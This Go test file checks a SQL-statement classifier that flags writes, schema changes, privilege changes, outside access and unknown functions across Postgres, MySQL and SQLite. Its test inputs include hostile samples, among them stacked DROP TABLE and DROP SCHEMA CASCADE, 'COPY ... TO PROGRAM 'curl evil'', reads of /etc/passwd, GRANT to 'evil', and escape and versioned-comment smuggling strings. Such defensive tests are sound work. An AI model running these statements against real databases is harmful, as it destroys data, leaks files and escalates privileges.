package sqltext

import (
	"fmt"
	"strings"
	"testing"
)

// sqlShape is a statement in one line, for tables.
func sqlShape(s Statement) string {
	out := s.Verb
	add := func(on bool, word string) {
		if on {
			out += " " + word
		}
	}
	add(s.Writes, "W")
	add(s.Schema, "schema")
	add(s.Everything, "all")
	add(s.Access, "access")
	add(s.Outside, "outside")
	add(len(s.Changes) > 0, "changes="+strings.Join(s.Changes, ","))
	add(len(s.Reads) > 0, "reads="+strings.Join(s.Reads, ","))
	unknown := Unknown(s.Functions)
	add(len(unknown) > 0, "calls="+strings.Join(unknown, ","))
	return out
}

func TestReadSQL(t *testing.T) {
	both := []string{Postgres, MySQL, SQLite}
	pg, my, lite := []string{Postgres}, []string{MySQL}, []string{SQLite}
	for _, c := range []struct {
		in   []string
		text string
		want string // statements, parted by " | "; "!" for not understood
	}{
		{both, "SELECT 1", "SELECT"},
		{both, "select a, count(*) from users u join orders o on o.u = u.id where u.a > 1 group by a", "SELECT reads=users,orders"},
		{both, "SELECT * FROM a WHERE x IN (SELECT y FROM b)", "SELECT reads=a,b"},
		{both, "UPDATE users SET a = 1 WHERE id = 7", "UPDATE W changes=users"},
		{both, "UPDATE users SET a = 1", "UPDATE W all changes=users"},
		{both, "UPDATE users SET a = 1 WHERE 1 = 1", "UPDATE W all changes=users"},
		{both, "DELETE FROM users WHERE id = 7", "DELETE W changes=users"},
		{both, "DELETE FROM users", "DELETE W all changes=users"},
		{both, "INSERT INTO a (x) SELECT y FROM b", "INSERT W changes=a reads=b"},
		{both, "CREATE TABLE t (a int)", "CREATE TABLE W schema changes=t"},
		{both, "DROP TABLE t", "DROP TABLE W schema changes=t"},
		{both, "ALTER TABLE t ADD COLUMN b int", "ALTER TABLE W schema changes=t"},
		{both, "SELECT 1; DROP TABLE users", "SELECT | DROP TABLE W schema changes=users"},
		{both, "SELECT evil(1) FROM t", "SELECT W reads=t calls=evil"},
		{both, "SELEC 1", "!"},
		{both, "SELECT 'unended", "!"},
		{both, "-- nothing\n", "!"},
		{both, "WITH x AS (SELECT * FROM a) SELECT * FROM x", "SELECT reads=a"},
		{both, "EXPLAIN SELECT * FROM a", "EXPLAIN SELECT reads=a"},
		{both, "EXPLAIN DELETE FROM a", "EXPLAIN DELETE reads=a"},
		// A name that a query gives itself hides no table from itself.
		{append(pg, my...), "WITH users AS (SELECT * FROM users) SELECT * FROM users", "SELECT reads=users"},
		{append(pg, my...), "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r", "SELECT"},
		{append(pg, my...), "WITH a AS (SELECT 1) SELECT * FROM a, s.a", "SELECT reads=s.a"},
		{append(pg, my...), "SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) z, secret", "SELECT reads=secret"},
		{append(pg, my...), "TRUNCATE TABLE logs", "TRUNCATE W all changes=logs"},
		{append(pg, my...), "SELECT * FROM t FOR UPDATE", "SELECT W reads=t"},

		{pg, "COMMIT; DROP SCHEMA public CASCADE", "COMMIT W | DROP SCHEMA W schema changes=public"},
		{pg, "WITH d AS (DELETE FROM x RETURNING *) SELECT * FROM d", "SELECT W all changes=x"},
		{pg, "WITH d AS (DELETE FROM x WHERE id = 1 RETURNING *) SELECT * FROM d, y", "SELECT W changes=x reads=y"},
		{pg, "EXPLAIN ANALYZE DELETE FROM a", "EXPLAIN DELETE W all changes=a"},
		{pg, "EXPLAIN (ANALYZE, BUFFERS) UPDATE a SET b = 1 WHERE c = 2", "EXPLAIN UPDATE W changes=a"},
		{pg, "SELECT * INTO copy FROM users", "SELECT INTO W changes=copy reads=users"},
		{pg, "CREATE TABLE copy AS SELECT * FROM users", "CREATE TABLE AS W schema changes=copy reads=users"},
		{pg, "COPY users TO PROGRAM 'curl evil'", "COPY W outside reads=users"},
		{pg, "COPY users FROM STDIN", "COPY W changes=users"},
		{pg, "SELECT pg_read_file('/etc/passwd')", "SELECT W calls=pg_read_file"},
		{pg, "SELECT pg_terminate_backend(1)", "SELECT W calls=pg_terminate_backend"},
		{pg, "SELECT mine.count(1)", "SELECT W calls=mine.count"},
		{pg, "SELECT pg_catalog.count(1)", "SELECT"},
		{pg, "GRANT ALL ON users TO evil", "GRANT W access reads=users"},
		{pg, "REVOKE ALL ON users FROM evil", "REVOKE W access reads=users"},
		{pg, "ALTER ROLE me SUPERUSER", "ALTER ROLE W access"},
		{pg, "DO $$ BEGIN DELETE FROM x; END $$", "DO W"},
		{pg, "SET ROLE admin", "SET role W"},
		{pg, "SHOW server_version", "SHOW"},
		{pg, "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE", "MERGE W changes=a reads=b"},
		{pg, `DELETE FROM "Users" WHERE "Users".id = 1`, "DELETE W changes=Users"},
		{pg, "LISTEN x", "LISTEN W"},
		{pg, "EXPLAIN SELECT evil()", "EXPLAIN SELECT W calls=evil"},
		// Operators, casts and samples may be somebody's own functions.
		{pg, "SELECT 1 OPERATOR(public.+) 2", "SELECT W calls=operator public.+"},
		{pg, "SELECT 1 OPERATOR(pg_catalog.+) 2", "SELECT"},
		{pg, "SELECT 1 @@@ 2", "SELECT W calls=operator @@@"},
		{pg, "SELECT a FROM t ORDER BY a USING OPERATOR(public.<)", "SELECT W reads=t calls=operator public.<"},
		{pg, "SELECT 1 OPERATOR(public.=) ANY (SELECT 2)", "SELECT W calls=operator public.="},
		{pg, "SELECT 'x'::mine, b::text, c::pg_catalog.int4 FROM t", "SELECT W reads=t calls=type mine"},
		{pg, "SELECT CAST(a AS varchar(9)), date '2026-01-01', b::int[], c::timestamptz FROM t", "SELECT reads=t"},
		{pg, "INSERT INTO a VALUES ('x'::vector)", "INSERT W changes=a"},
		{pg, "SELECT * FROM t TABLESAMPLE system(1)", "SELECT reads=t"},
		{pg, "SELECT * FROM t TABLESAMPLE evil(1)", "SELECT W reads=t calls=sample evil"},
		{pg, "SELECT a FROM t WHERE a NOT BETWEEN 1 AND 2 AND b NOT ILIKE 'x%' AND c IS DISTINCT FROM d AND e IN (1) AND f = ANY (g)", "SELECT reads=t"},
		{pg, "SELECT j->'a'->>'b', k @> '{}', a || b, NOT c, -d, a SIMILAR TO 'x', NULLIF(a, b), (a, b) OVERLAPS (c, d), a AT TIME ZONE 'UTC' FROM t", "SELECT W reads=t calls=overlaps"},
		// One setting ends the text at the backslash, another does not.
		{pg, `SELECT 'a\'' ; DROP TABLE users; --'`, "!"},
		{pg, `SELECT 'a\n'`, "SELECT"},
		{pg, "CREATE VIEW v AS SELECT * FROM a", "CREATE VIEW W schema changes=v reads=a"},

		{my, "SELECT * FROM users INTO OUTFILE '/tmp/x'", "SELECT W outside reads=users"},
		{my, "SELECT /*!50000 sleep(9) */ FROM t", "!"},
		{my, "SELECT 1 /*! ; DROP TABLE t */", "!"},
		// A server of a lower version skips up to the first end, and runs the rest.
		{my, "/*!99999 SELECT '*/ DELETE FROM t; -- ' */", "!"},
		{my, "SELECT 1 /*M! INTO OUTFILE '/tmp/x' */", "!"}, // MariaDB runs it
		{my, "SELECT 1 /*m!100100 INTO OUTFILE '/tmp/x' */", "!"},
		{my, "SELECT 1 /*T![x] INTO OUTFILE '/tmp/x' */", "!"},
		{my, "SELECT /* plain */ 1 /* ! */", "SELECT"},
		{my, "EXPLAIN SELECT * FROM (SELECT sleep(9)) t", "EXPLAIN SELECT W calls=sleep"},
		{my, "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "LOAD DATA W outside changes=t"},
		{my, "SHOW TABLES", "SHOW"},
		{my, "DESCRIBE users", "DESCRIBE reads=users"},
		{my, "REPLACE INTO a VALUES (1)", "REPLACE W changes=a"},
		{my, "SET GLOBAL general_log = 1", "SET W"},
		{my, "CREATE USER x", "CREATE USER W access"},
		{my, "EXPLAIN ANALYZE SELECT * FROM t", "EXPLAIN SELECT reads=t"},
		{my, "DELETE a FROM a JOIN b ON a.x = b.x WHERE b.y = 1", "DELETE W changes=a reads=b"},
		// One setting of the server ends the string at the backslash, another does not.
		{my, `SELECT 'a\'; DROP TABLE users; -- '`, "!"},
		{my, `SELECT "users" FROM t`, "SELECT reads=t"},
		{my, `SELECT 'a\nb' FROM t`, "SELECT reads=t"},

		{lite, "PRAGMA table_info(users)", "PRAGMA table_info"},
		{lite, "PRAGMA user_version", "PRAGMA user_version"},
		{lite, "PRAGMA user_version = 7", "PRAGMA user_version W"},
		{lite, "PRAGMA writable_schema = 1", "PRAGMA writable_schema W"},
		{lite, "ATTACH '/etc/other.db' AS o", "ATTACH W outside"},
		{lite, "VACUUM INTO '/tmp/copy.db'", "VACUUM W outside"},
		{lite, "SELECT load_extension('x')", "SELECT W calls=load_extension"},
		{lite, "SELECT writefile('x', 'y')", "SELECT W calls=writefile"},
		{lite, "SELECT * FROM json_each('[1]'), t", "SELECT reads=t"},
		{lite, "SELECT * FROM pragma_optimize", "SELECT W calls=pragma_optimize"}, // writes statistics
		{lite, `SELECT * FROM main."PRAGMA_optimize"`, "SELECT W calls=main.pragma_optimize"},
		{lite, "SELECT * FROM pragma_user_version, pragma_table_info('t')", "SELECT reads=pragma_user_version"},
		{lite, "SELECT * FROM fsdir WHERE path = '/etc'", "SELECT W calls=fsdir"},
		{lite, "EXPLAIN SELECT evil()", "EXPLAIN SELECT W calls=evil"},
		{lite, "INSERT OR REPLACE INTO a VALUES (1)", "INSERT W changes=a"},
		{lite, "DELETE FROM a LIMIT 1", "DELETE W all changes=a"},
		{lite, "BEGIN; DELETE FROM a WHERE x = 1; COMMIT", "BEGIN W | DELETE W changes=a | COMMIT W"},
		{lite, "CREATE TRIGGER g AFTER INSERT ON a BEGIN DELETE FROM b WHERE x = 1; END", "CREATE TRIGGER W schema changes=a,b"},
		{lite, "WITH d AS (SELECT 1) DELETE FROM a WHERE x IN d", "DELETE W changes=a reads=d"},

		{[]string{"oracle", ""}, "SELECT 1", "!"},
	} {
		for _, dialect := range c.in {
			list, why := Read(dialect, c.text)
			got := "!"
			if why == "" {
				var parts []string
				for _, s := range list {
					parts = append(parts, sqlShape(s))
				}
				got = strings.Join(parts, " | ")
			} else if len(list) > 0 {
				t.Errorf("%s %q: not understood, but with statements", dialect, c.text)
			}
			if got != c.want {
				t.Errorf("%s %q\n got %s (%s)\nwant %s", dialect, c.text, got, why, c.want)
			}
		}
	}
}

// TestSQLDeep reads what is nested as deeply as the bounds allow: a parser that
// ran out of stack would take the daemon with it.
func TestSQLDeep(t *testing.T) {
	for name, text := range map[string]string{
		"brackets":   "SELECT " + strings.Repeat("(", maxSQLDeep) + "1" + strings.Repeat(")", maxSQLDeep),
		"too many":   "SELECT " + strings.Repeat("(", 5000) + "1" + strings.Repeat(")", 5000),
		"not":        "SELECT " + strings.Repeat("NOT ", maxSQL/4-10) + "1",
		"minus":      "SELECT " + strings.Repeat("- ", maxSQL/2-10) + "1",
		"case":       "SELECT " + strings.Repeat("CASE WHEN 1 THEN ", 3000) + "1" + strings.Repeat(" END", 3000),
		"union":      "SELECT 1" + strings.Repeat(" UNION SELECT 1", 4000),
		"and":        "SELECT 1" + strings.Repeat(" AND 1", 10000),
		"explain":    strings.Repeat("EXPLAIN ", 8000) + "SELECT 1",
		"joins":      "SELECT * FROM a" + strings.Repeat(" JOIN a ON 1", 5000),
		"too long":   "SELECT '" + strings.Repeat("x", maxSQL) + "'",
		"statements": strings.Repeat("SELECT 1;", 7000),
		"between":    "SELECT " + strings.Repeat("1 BETWEEN ", 6000) + "1",
		"casts":      "SELECT 1" + strings.Repeat("::int", 12000),
		"collate":    "SELECT 1" + strings.Repeat(" COLLATE x", 6000),
	} {
		for _, dialect := range []string{Postgres, MySQL, SQLite} {
			list, why := Read(dialect, text)
			if (why == "") == (len(list) == 0) {
				t.Errorf("%s, %s: %d statements, %q", name, dialect, len(list), why)
			}
		}
	}
}

// FuzzSQL: whatever the text, reading it ends, is the same twice, and what a
// dialect does not understand counts as a write.
func FuzzSQL(f *testing.F) {
	for _, s := range []string{"SELECT 1", "DELETE FROM a; --", "WITH a AS (SELECT 1) SELECT * FROM a", `SELECT "a\"b" /*! x */`, "COPY t TO PROGRAM 'x'", "PRAGMA x(1)", "$$", "E'\\'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, dialect := range []string{Postgres, MySQL, SQLite} {
			list, why := Read(dialect, text)
			if (why == "") == (len(list) == 0) {
				t.Fatalf("%s: %d statements, %q", dialect, len(list), why)
			}
			again, _ := Read(dialect, text)
			if fmt.Sprint(list) != fmt.Sprint(again) {
				t.Fatalf("%s reads %q in two ways", dialect, text)
			}
			for _, s := range list {
				if len(s.Changes) > 0 && !s.Writes {
					t.Fatalf("%s: %q changes %v and does not write", dialect, text, s.Changes)
				}
			}
		}
	})
}
